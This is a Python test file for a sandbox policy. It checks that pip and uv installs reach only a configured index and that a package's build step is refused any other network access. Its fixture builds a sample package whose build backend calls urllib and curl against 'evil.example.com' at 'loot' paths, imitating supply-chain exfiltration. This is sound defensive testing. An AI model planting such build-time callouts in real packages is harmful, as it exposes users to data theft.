"""The CI job of policies/examples: pip and uv install from the configured index and from nowhere else, nor does what it builds.

Judged at a stand-in index, which logs every path that is asked of it.
"""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support import phoning
from tests.support.apps import UV
from tests.support.files_server import FilesServer
from tests.support.homes import Home
from tests.support.jailed import identities
from tests.support.runs import ROOT, apps

USER = pytest.mark.parametrize("home", identities()[1:], indirect=True)
INDEX = "index.example.com"
POLICY = (ROOT / "policies" / "examples" / "ci-job.yaml").read_text()
BACKEND = f"""
import os, subprocess, urllib.request
def tries():
    for host in ("{INDEX}", "evil.example.com"):
        try:
            urllib.request.urlopen(f"https://{{host}}/loot-urllib", timeout=5)
        except Exception:
            pass
        subprocess.run(["curl", "-s", "-m", "5", f"https://{{host}}/loot-curl"])
    open(os.environ["TRIED"], "w").close()
"""


@pytest.fixture
def index(tmp_path: Path) -> Iterator[FilesServer]:
    """One sdist, whose build asks the index for more, and somebody else."""
    page = tmp_path / "simple" / "phoning" / "index.html"
    page.parent.mkdir(parents=True)
    made = phoning.sdist(tmp_path, BACKEND)
    page.write_text(f'<a href="/{made.name}">{made.name}</a>')
    with FilesServer(tmp_path, INDEX, tmp_path) as server:
        yield server


@USER
def test_pip_installs_from_the_index_and_what_it_builds_reaches_no_more_than_pip(home: Home, index: FilesServer) -> None:
    venv = home.path / "venv"
    subprocess.run([apps(), "-m", "venv", venv], check=True)
    home.put(".config/pip/pip.conf", f"[global]\nindex-url = https://{INDEX}/simple/\n")
    command = [
        str(venv / "bin/pip"),
        "install",
        "-q",
        "--no-cache-dir",
        "--retries",
        "0",
        "--disable-pip-version-check",
        "phoning",
    ]
    tried = home.path / "tried"
    run = home.run(POLICY, command, *index.connect_to(), ca=index.ca_file, TRIED=str(tried))
    assert run.code == 0 and tried.exists() and list(venv.glob("lib/*/site-packages/phoning.py")), run.said()
    # pip's isolated build has a sitecustomize of its own, so the backend has no shim: it is pip's child, charged as pip.
    assert index.seen == ["/simple/phoning/", "/phoning-1.0.tar.gz", "/loot-urllib"], run.said()
    web = [r for r in run.records if r["capability"] == "network:http"]
    assert {(r["principal"], r["host"]) for r in web if r["verdict"] == "allow"} == {("pip", INDEX)}, run.said()
    refusals = {(r["principal"], r["host"]) for r in web if r["verdict"] == "deny"}
    assert refusals == {("exe:curl", INDEX), ("pip", "evil.example.com"), ("exe:curl", "evil.example.com")}, run.said()
    asked = len(index.seen)
    without = POLICY.replace(", preset:python-packaging", "")
    assert without != POLICY
    refused = home.run(without, [*command, "--force-reinstall"], *index.connect_to(), ca=index.ca_file, TRIED=str(tried))
    assert refused.code not in (0, 125) and len(index.seen) == asked, refused.said()


@USER
def test_uv_installs_from_the_index_and_what_it_builds_reaches_nothing(home: Home, index: FilesServer) -> None:
    venv, uv = home.path / "venv", home.path / ".local" / "bin" / "uv"
    subprocess.run([apps(), "-m", "venv", "--without-pip", venv], check=True)
    uv.parent.mkdir(parents=True)
    shutil.copy(UV, uv)
    home.put(".config/uv/uv.toml", f'index-url = "https://{INDEX}/simple/"\n')
    command = [str(uv), "pip", "install", "-q", "--no-cache", "--python", str(venv), "phoning"]
    tried, env = home.path / "tried", {"UV_LINK_MODE": "copy", "UV_HTTP_RETRIES": "0"}
    run = home.run(POLICY, command, *index.connect_to(), ca=index.ca_file, TRIED=str(tried), **env)
    assert run.code == 0 and tried.exists() and list(venv.glob("lib/*/site-packages/phoning.py")), run.said()
    assert index.seen == ["/simple/phoning/", "/phoning-1.0.tar.gz"], run.said()
    web = [r for r in run.records if r["capability"] == "network:http"]
    assert {(r["principal"], r["host"]) for r in web if r["verdict"] == "allow"} == {("exe:uv", INDEX)}, run.said()
    # The backend is a Python with a shim that uv started, and nobody's package.
    refusals = {(r["principal"], r["reason"], r["host"]) for r in web if r["verdict"] == "deny"}
    hosts = (INDEX, "evil.example.com")
    assert refusals == {(w, why, h) for w, why in (("?", "unproven"), ("exe:curl", "no_capability")) for h in hosts}, run.said()
    asked = len(index.seen)
    refused = home.run(
        POLICY.replace(", preset:python-packaging", ""),
        [*command, "--reinstall"],
        *index.connect_to(),
        ca=index.ca_file,
        TRIED=str(tried),
        **env,
    )
    assert refused.code not in (0, 125) and len(index.seen) == asked, refused.said()
